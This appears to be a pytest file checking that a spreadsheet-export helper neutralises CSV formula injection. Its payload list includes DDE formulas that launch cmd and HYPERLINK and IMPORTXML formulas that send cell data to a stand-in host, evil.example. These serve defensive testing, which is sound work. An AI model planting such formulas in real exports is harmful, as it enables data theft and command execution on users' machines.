"""CSV cells that a spreadsheet could run as a formula are neutralised (OWASP "CSV
injection"), wherever the formula starts: at the beginning, after leading spaces or
line breaks, or after a separator another program could split the cell at."""

import csv
import io

import pytest

from shared.services.spreadsheet import safe_cell, writer

# OWASP's examples, and the ones the outside review found getting through.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+2",
    "\r=1+2",
    "\tTAB",
    "\rCR",
    ";=1+2",
    "; =cmd|' /C calc'!A0",
    " =1+2",
    "   @SUM(1)",
    "\n=1+2",
    "\r\n-1+1",
    "\n\n+1",
    ",=1+2",
    "|=1+2",
    "x;=1+2",
    "safe text\n=1+2",
    "\uff1d1+2",
    "%0A-3+3+cmd|' /C calc'!E2".replace("%0A", "\n"),
]
HARMLESS = ["Ann Lee", "crime.view", "q=43/1", "2026-01-05T09:30:00+00:00", "43/70001/26", "50", "a - b", ""]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_anywhere_a_spreadsheet_would_start_one_is_neutralised(payload):
    cell = safe_cell(payload)
    assert cell == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_as_it_is(text):
    assert safe_cell(text) == text


def test_none_is_an_empty_cell_and_numbers_are_text():
    assert safe_cell(None) == ""
    assert safe_cell(7) == "7"
    assert safe_cell(-1) == "'-1"


def test_every_cell_is_quoted_so_a_separator_inside_never_splits_it():
    buffer = io.StringIO()
    writer(buffer).writerow([safe_cell("x;=1+2")])
    assert buffer.getvalue() == '"\'x;=1+2"\r\n'
    # Read with a semicolon as the delimiter, as some locales do: the cell stays whole.
    assert next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == ["'x;=1+2"]
